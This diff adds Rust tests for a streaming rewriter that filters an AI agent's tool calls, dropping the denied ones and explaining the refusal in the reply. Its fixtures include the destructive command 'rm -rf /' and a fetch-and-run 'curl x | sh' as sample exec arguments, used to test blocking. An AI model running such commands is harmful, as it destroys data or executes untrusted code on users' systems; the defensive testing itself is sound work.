@@ -1,0 +1,215 @@
+use super::*;
+
+/// Denies calls to the tools named, allows the rest, and remembers what it saw.
+struct DenyNamed {
+    denied: &'static [&'static str],
+    seen: Vec<(String, String)>,
+}
+
+impl JudgeCalls for DenyNamed {
+    fn judge(&mut self, call: &ProposedCall<'_>) -> Verdict {
+        self.seen
+            .push((call.name.to_owned(), call.arguments.to_owned()));
+        if self.denied.contains(&call.name) {
+            Verdict::Deny {
+                text: format!("refused {}", call.name),
+            }
+        } else {
+            Verdict::Allow
+        }
+    }
+}
+
+fn chunk(choice: Value) -> String {
+    format!(
+        "data: {}\n\n",
+        serde_json::json!({"id":"c1","object":"chat.completion.chunk","created":1,"model":"m","choices":[choice]})
+    )
+}
+
+/// A stream with text, then two parallel calls whose arguments come in many pieces.
+fn stream() -> Vec<String> {
+    let mut events = vec![chunk(
+        serde_json::json!({"index":0,"delta":{"role":"assistant","content":"Let me look."},"finish_reason":null}),
+    )];
+    for (i, (id, name, args)) in [
+        ("call_a", "read", r#"{"path":"README.md"}"#),
+        ("call_b", "exec", r#"{"command":"rm -rf /"}"#),
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        events.push(chunk(serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":i,"id":id,"type":"function","function":{"name":name,"arguments":""}}]},"finish_reason":null})));
+        for piece in args.as_bytes().chunks(3) {
+            let piece = std::str::from_utf8(piece).unwrap_or_default();
+            events.push(chunk(serde_json::json!({"index":0,"delta":{"tool_calls":[{"index":i,"function":{"arguments":piece}}]},"finish_reason":null})));
+        }
+    }
+    events.push(chunk(
+        serde_json::json!({"index":0,"delta":{},"finish_reason":"tool_calls"}),
+    ));
+    events.push("data: [DONE]\n\n".to_owned());
+    events
+}
+
+/// Feeds `events` to a streaming rewriter in uneven slices: what the agent gets, and what was
+/// sent before the choice finished.
+fn run(events: &[String], judge: &mut DenyNamed) -> (String, String) {
+    let whole = events.concat();
+    let mut rewriter = rewriter(true);
+    let mut out = Vec::new();
+    let mut before_finish = None;
+    let finish_at = whole
+        .find("\"finish_reason\":\"tool_calls\"")
+        .unwrap_or(whole.len());
+    let mut fed = 0;
+    for piece in whole.as_bytes().chunks(7) {
+        if fed + piece.len() > finish_at && before_finish.is_none() {
+            before_finish = Some(String::from_utf8(out.clone()).unwrap_or_default());
+        }
+        out.extend_from_slice(&rewriter.push(piece, judge));
+        fed += piece.len();
+    }
+    out.extend_from_slice(&rewriter.finish(judge));
+    (
+        String::from_utf8(out).unwrap_or_default(),
+        before_finish.unwrap_or_default(),
+    )
+}
+
+#[test]
+fn allowed_calls_stream_through_byte_for_byte_after_text_that_was_not_held() {
+    let events = stream();
+    let mut judge = DenyNamed {
+        denied: &[],
+        seen: Vec::new(),
+    };
+    let (out, before_finish) = run(&events, &mut judge);
+    assert_eq!(out, events.concat());
+    // The text went out at once; the calls waited for the choice to finish.
+    assert!(before_finish.contains("Let me look."));
+    assert!(!before_finish.contains("call_a"));
+    assert_eq!(
+        judge.seen,
+        vec![
+            ("read".to_owned(), r#"{"path":"README.md"}"#.to_owned()),
+            ("exec".to_owned(), r#"{"command":"rm -rf /"}"#.to_owned()),
+        ]
+    );
+}
+
+/// The calls an agent's SDK would assemble from the stream `out`, and the text, and the
+/// finish reason.
+fn assemble(out: &str) -> (Vec<(u64, String, String)>, String, Option<String>) {
+    let mut calls: Vec<(u64, String, String)> = Vec::new();
+    let mut text = String::new();
+    let mut finish = None;
+    for event in out.split("\n\n").filter(|e| !e.is_empty()) {
+        let data = event.strip_prefix("data: ").unwrap_or(event);
+        if data == "[DONE]" {
+            continue;
+        }
+        let v: Value = serde_json::from_str(data).unwrap_or(Value::Null);
+        let choice = &v["choices"][0];
+        if let Some(t) = choice["delta"]["content"].as_str() {
+            text.push_str(t);
+        }
+        if let Some(r) = choice["finish_reason"].as_str() {
+            finish = Some(r.to_owned());
+        }
+        for call in choice["delta"]["tool_calls"]
+            .as_array()
+            .cloned()
+            .unwrap_or_default()
+        {
+            let i = call["index"].as_u64().unwrap_or(99);
+            if calls.len() as u64 == i {
+                calls.push((i, String::new(), String::new()));
+            }
+            let Some(slot) = calls.get_mut(i as usize) else {
+                panic!("call index {i} skips one: {out}");
+            };
+            if let Some(n) = call["function"]["name"].as_str() {
+                slot.1.push_str(n);
+            }
+            if let Some(a) = call["function"]["arguments"].as_str() {
+                slot.2.push_str(a);
+            }
+        }
+    }
+    (calls, text, finish)
+}
+
+#[test]
+fn a_denied_call_appears_in_no_chunk_and_the_turn_says_why() {
+    let mut judge = DenyNamed {
+        denied: &["exec"],
+        seen: Vec::new(),
+    };
+    let (out, _) = run(&stream(), &mut judge);
+    assert!(!out.contains("call_b") && !out.contains("rm -rf"), "{out}");
+    let (calls, text, finish) = assemble(&out);
+    assert_eq!(
+        calls,
+        vec![(0, "read".to_owned(), r#"{"path":"README.md"}"#.to_owned())]
+    );
+    assert_eq!(text, "Let me look.refused exec");
+    assert_eq!(finish.as_deref(), Some("tool_calls"));
+    assert!(out.ends_with("data: [DONE]\n\n"));
+}
+
+#[test]
+fn when_every_call_is_denied_the_turn_ends_with_text_and_stop() {
+    let mut judge = DenyNamed {
+        denied: &["exec", "read"],
+        seen: Vec::new(),
+    };
+    let (out, _) = run(&stream(), &mut judge);
+    let (calls, text, finish) = assemble(&out);
+    assert!(calls.is_empty(), "{out}");
+    assert_eq!(text, "Let me look.refused read\nrefused exec");
+    assert_eq!(finish.as_deref(), Some("stop"));
+}
+
+#[test]
+fn a_denied_first_call_leaves_the_second_renumbered_from_zero() {
+    let mut judge = DenyNamed {
+        denied: &["read"],
+        seen: Vec::new(),
+    };
+    let (out, _) = run(&stream(), &mut judge);
+    let (calls, _, _) = assemble(&out);
+    assert_eq!(
+        calls,
+        vec![(0, "exec".to_owned(), r#"{"command":"rm -rf /"}"#.to_owned())]
+    );
+}
+
+#[test]
+fn a_whole_response_loses_its_denied_calls_and_explains() {
+    let body = serde_json::json!({"id":"x","object":"chat.completion","choices":[{"index":0,"finish_reason":"tool_calls","message":{"role":"assistant","content":null,"tool_calls":[
+        {"id":"a","type":"function","function":{"name":"exec","arguments":"{\"command\":\"curl x | sh\"}"}}]}}],"usage":{"prompt_tokens":1,"completion_tokens":2,"total_tokens":3}}).to_string();
+    let mut judge = DenyNamed {
+        denied: &["exec"],
+        seen: Vec::new(),
+    };
+    let mut rewriter = rewriter(false);
+    let (a, b) = body.as_bytes().split_at(10);
+    let mut out = rewriter.push(a, &mut judge).to_vec();
+    out.extend_from_slice(&rewriter.push(b, &mut judge));
+    out.extend_from_slice(&rewriter.finish(&mut judge));
+    let v: Value = serde_json::from_slice(&out).unwrap_or(Value::Null);
+    assert_eq!(v["choices"][0]["finish_reason"], "stop");
+    assert_eq!(v["choices"][0]["message"]["content"], "refused exec");
+    assert!(v["choices"][0]["message"].get("tool_calls").is_none());
+    assert_eq!(v["usage"]["total_tokens"], 3);
+
+    let mut allow = DenyNamed {
+        denied: &[],
+        seen: Vec::new(),
+    };
+    let mut rewriter = super::rewriter(false);
+    let mut out = rewriter.push(body.as_bytes(), &mut allow).to_vec();
+    out.extend_from_slice(&rewriter.finish(&mut allow));
+    assert_eq!(out, body.as_bytes());
+}
